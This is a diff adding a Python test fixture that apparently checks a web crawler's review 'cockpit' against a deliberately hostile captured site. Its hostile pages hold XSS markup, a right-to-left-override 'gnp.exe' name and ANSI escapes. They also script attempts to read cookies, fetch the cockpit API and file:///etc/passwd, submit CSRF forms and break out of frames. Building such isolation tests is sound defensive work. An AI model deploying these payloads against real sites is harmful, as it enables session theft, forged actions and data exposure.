@@ -1,0 +1,136 @@
+"""A small crawl that has something for every page of the cockpit: a forum, failures, and a site that means ill."""
+
+import json
+from dataclasses import dataclass
+from pathlib import Path
+
+from aahcrawler.layout import LOG
+from examples.serve import WORLD
+from examples.serve import Site as Recorded
+from tests.crawl.crawling import aah
+from tests.crawl.site import Reply, Site, html, links
+from tests.crawl.world import define, network
+
+CRAWL = "shown"
+FORUM, HOSTILE = "harbourforum.example", "hostile.test"
+THREAD = "/viewtopic.php?t=13"
+EDITED = "A word that was not there before."
+HTML = {"Content-Type": "text/html; charset=utf-8"}
+TURNED = "\u202egnp.exe\u202c"
+LONG = "Donaudampfschifffahrt" * 40
+MARKUP = "<img src=x onerror=\"document.title='ran'\"><script>document.title='ran'</script>"
+STRANGE = f"{MARKUP}{TURNED}\x1b[31m\x07\u2066{LONG}\"'&lt;"
+_LIMIT = 26
+_A_SEED_GAVE_NOTHING = 3
+
+
+@dataclass(frozen=True, slots=True)
+class Shown:
+    """A crawl that was crawled twice, and where its folder is."""
+
+    folder: Path
+    site: Site
+
+
+def crawled(place: Path, site: Site, cockpit: str, replay: str) -> Shown:
+    """Crawl the site twice, with changes in between; its hostile pages know the origins of a cockpit and its replay."""
+    folder = place / CRAWL
+    site.pages |= hostile_pages(cockpit, replay, f"{site.url}leak")
+    forum = Recorded.read(WORLD / FORUM)
+    site.other = lambda path: _recorded(forum, path)
+    icd = define(
+        place.parent,
+        [*(f"http://{HOSTILE}{path}" for path in ("/", "/attack", "/down")), f"http://{FORUM}{THREAD}"],
+        id=CRAWL,
+        title=f"Flood {TURNED} {LONG[:120]}",
+        topic={"keywords": ["flood", "storm surge", "dyke", "sea wall"], "entities": ["Varhaven"]},
+        limits={"pages": _LIMIT, "requisites_per_page": 0},
+        politeness={"retries": "0"},
+        scope={"sites": "seeds", "deny": ["/never/"]},
+        network=network(site, HOSTILE, FORUM),
+        output=str(folder),
+    )
+    for _ in range(2):
+        ended = aah("crawl", icd)
+        assert ended.code in (0, _A_SEED_GAVE_NOTHING), ended.err
+        site.pages[f"//{FORUM}{THREAD}"] = _edited(forum)
+        site.pages[f"//{HOSTILE}/"] = Reply(_hostile_front(cockpit, "Changed"), headers=HTML)
+    with (folder / LOG).open("a", encoding="utf-8") as log:
+        log.write(f"2026-01-02T03:04:05.000Z WARNING crawl.response.handler http://{HOSTILE}/ {STRANGE}\n")
+    return Shown(folder, site)
+
+
+def _recorded(forum: Recorded, path: str) -> Reply:
+    answer = forum.answer(path)
+    headers = {"Content-Type": answer.content_type, **({"Location": answer.location} if answer.location else {})}
+    return Reply(answer.body, answer.status, headers)
+
+
+def _edited(forum: Recorded) -> Reply:
+    body = forum.answer(THREAD).body
+    at = body.index(b'<div class="content">') + len(b'<div class="content">')
+    return Reply(body[:at] + EDITED.encode() + b" " + body[at:], headers=HTML)
+
+
+def hostile_pages(cockpit: str, replay: str, leak: str) -> dict[str, Reply]:
+    """Return the pages of a site that means ill to whoever looks at its captures in a cockpit."""
+    there = f"//{HOSTILE}"
+    return {
+        f"{there}/": Reply(_hostile_front(cockpit, "First"), headers=HTML),
+        f"{there}/attack": Reply(_attack(cockpit, replay, leak), headers=HTML),
+        f"{there}/down": Reply(b"<h1>Down</h1>", 404, HTML),
+        f"{there}/broken": Reply(b"<h1>Broken</h1>", 500, HTML),
+        f"{there}/{LONG}": html(STRANGE.replace("<", "&lt;"), "<p>The flood of the harbour.</p>"),
+        **{f"{there}/cal/{n}": html(f"Day {n}", "<p>The flood.</p>" + links(f"/cal/{n + 1}")) for n in range(40)},
+    }
+
+
+def _hostile_front(cockpit: str, word: str) -> bytes:
+    article = {
+        "@context": "https://schema.org",
+        "@type": "NewsArticle",
+        "headline": f"Flood {STRANGE}",
+        "author": {"@type": "Person", "name": f"Ann {TURNED} <b>Vos</b>"},
+        "datePublished": "2026-01-02T03:04:05Z",
+        "articleBody": f"{word}: the flood at the sea wall. {STRANGE}",
+    }
+    data = json.dumps(article).replace("<", "\\u003c")
+    title = STRANGE.replace("<", "&lt;")
+    targets = ("/attack", "/down", "/broken", f"/{LONG}", "/cal/0", "/never/1", "/a?q=%E2%80%AEgnp.exe%3Cscript%3E")
+    page = (
+        f'<!doctype html><html lang="en"><head><title>{title}</title>'
+        f'<script type="application/ld+json">{data}</script></head><body><h1>{title}</h1><article>'
+        f"<p>{word}: the flood at the sea wall of the harbour, and a storm surge over the dyke. {title}</p></article>"
+        f'{links(*targets)}<a href="{cockpit}/sign-out">flood</a><a href="http://elsewhere.test/flood">flood</a>'
+    )
+    return f"{page}</body></html>".encode()
+
+
+def _attack(cockpit: str, replay: str, leak: str) -> bytes:
+    """Return a page that tries to reach the cookie, the cockpit, the network and the disk from within its frame."""
+    urls = (f"{cockpit}/crawls/{CRAWL}", f"{cockpit}/v1/crawls", leak, "file:///etc/passwd")
+    tries = "".join(
+        f"fetch('{url}', {{credentials: 'include', mode: 'no-cors'}}).then(() => document.title = 'ran');"
+        f"new Image().src = '{url}?image';navigator.sendBeacon('{url}?beacon');new EventSource('{url}');"
+        f"try {{ new WebSocket('{url.replace('http', 'ws')}') }} catch (e) {{}}"
+        for url in urls
+    )
+    script = (
+        f"document.title = 'ran'; top.document.title = document.cookie; {tries} top.location = '{cockpit}/new';"
+        f"parent.postMessage('x', '*'); window.open('{cockpit}/new'); navigator.serviceWorker.register('/sw.js');"
+    )
+    framed = "".join(
+        f'<iframe src="{url}"></iframe><object data="{url}"></object><embed src="{url}">'
+        f'<img src="{url}?img"><link rel="stylesheet" href="{url}?css"><video src="{url}?video"></video>'
+        for url in (*urls, f"{cockpit}/static/icon.svg", f"{replay}/", "javascript:top.location='about:blank'")
+    )
+    return f"""<!doctype html><html lang="en"><head><title>Attack</title>
+<base href="{cockpit}/" target="_top"><script>{script}</script><script src="{cockpit}/static/cockpit.js"></script>
+<style>@import "{cockpit}/static/cockpit.css"; body {{ background: url({cockpit}/crawls) }}</style></head>
+<body onload="{script.replace('"', "&quot;")}"><p id="text">The flood came over the dyke.</p>
+<form id="form" method="post" action="{cockpit}/crawls/{CRAWL}/acts/stop" target="_top"><input name="secret" value="x">
+<button id="send">Send</button></form><form id="enter" method="post" action="{replay}/enter" target="_top"><input
+name="ticket" value="x"><button id="ticket">Send</button></form>
+<a id="out" href="{cockpit}/new" target="_top">out</a> <a id="blank" href="{cockpit}/new" target="_blank">new</a>
+<a id="js" href="javascript:top.location='{cockpit}/new'">js</a>
+{framed}</body></html>""".encode()
